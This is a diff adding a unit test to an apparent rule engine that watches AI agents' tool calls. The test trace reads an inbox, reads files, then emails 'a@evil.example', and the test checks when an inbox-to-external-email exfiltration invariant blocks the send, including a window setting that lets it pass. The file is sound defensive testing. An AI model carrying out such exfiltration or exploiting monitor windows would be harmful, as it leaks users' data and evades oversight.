@@ -84,6 +84,16 @@ def test_traces_are_by_route_and_take_calls_alone(spark):
     assert "content" not in plan
 
 
+def test_parked_flows_outlive_the_window(spark):
+    rows = [call(1, "inbox_read"), *[call(k, "fs_read", {"p": k}) for k in range(2, 7)], call(7, "email_send", {"to": "a@evil.example"}), answer(8, "x")]
+    cfg = Config(invariant_window=3)
+    assert names(decided(spark, rows, cfg)[7])[-1] == ("invariant", "allow")
+    got = decided(spark, rows, cfg, parked=True)
+    assert names(got[7])[-1] == ("invariant:inbox-to-external-email", "block")
+    assert names(got[6])[-1] == ("invariant", "allow")
+    assert got[7].decision.reason.endswith("Read an inbox then send email to an external recipient (data exfiltration)")
+
+
 def test_long_arguments_lose_what_is_beyond_their_share_but_not_their_identity(spark):
     pack = (rules.Flow("tail", (rules.Step("a", {"s": "needle$"}),)), rules.Loop("same", 2))
     rows = [call(1, "a", {"s": "x" * 9000 + "needle"}), call(2, "a", {"s": "x" * 9000 + "noodle"}), call(3, "a", {"s": "x" * 9000 + "noodle"})]
